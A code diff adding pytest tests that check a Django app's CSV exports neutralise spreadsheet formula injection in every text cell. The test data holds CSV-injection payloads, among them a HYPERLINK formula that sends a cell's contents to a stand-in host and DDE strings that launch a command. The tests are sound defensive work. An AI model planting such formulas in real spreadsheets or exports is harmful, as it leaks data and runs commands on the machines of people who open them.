@@ -113,3 +113,48 @@ def test_work_plan_csv_applies_the_list_filters(client):
     data = rows(client.get(reverse("frameworks:activity-csv"), {"status": "planned"}))
 
     assert [row["title"] for row in data] == ["Planned work"]
+
+
+# Every cell that a spreadsheet would run as a formula ("CSV injection"), one per way to start it.
+HOSTILE = {
+    "=": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+    "+": "+1+cmd|' /C calc'!A0",
+    "-": "-2+3+cmd|' /C calc'!A0",
+    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "tab": "\t=1+1",
+    "cr": "\r=1+1",
+}
+
+
+@pytest.mark.parametrize("hostile", HOSTILE.values(), ids=HOSTILE.keys())
+def test_mapping_csv_neutralises_formulas_in_every_text_cell(client, hostile):
+    framework = CooperationFrameworkFactory()
+    priority = StrategicPriorityFactory(framework=framework, title=hostile)
+    outcome = OutcomeFactory(priority=priority, short_name=hostile, statement=hostile)
+    output = OutputFactory(outcome=outcome, title=hostile)
+    ObjectiveLinkFactory(outcome=None, output=output, objective=objective(4), rationale=hostile)
+
+    (row,) = rows(client.get(reverse("frameworks:mapping-csv"), {"framework": framework.pk}))
+
+    for column in ["priority_title", "outcome_short_name", "outcome_statement", "output_title"]:
+        assert row[column] == "'" + hostile, column
+    assert row["rationale"] == "'" + hostile
+    assert row["gcm_objective_number"] == "4"
+
+
+@pytest.mark.parametrize("hostile", HOSTILE.values(), ids=HOSTILE.keys())
+def test_work_plan_csv_neutralises_formulas_in_every_text_cell(client, hostile):
+    ActivityFactory(
+        title=hostile,
+        lead=OrganisationFactory(name=hostile),
+        partners=[OrganisationFactory(name=hostile + " partner")],
+        funding_source=hostile,
+        budget="1500.00",
+    )
+
+    (row,) = rows(client.get(reverse("frameworks:activity-csv")))
+
+    for column in ["title", "lead_organisation", "funding"]:
+        assert row[column] == "'" + hostile, column
+    assert row["partner_organisations"] == "'" + hostile + " partner"
+    assert row["budget"] == "1500.00"  # numbers stay numbers
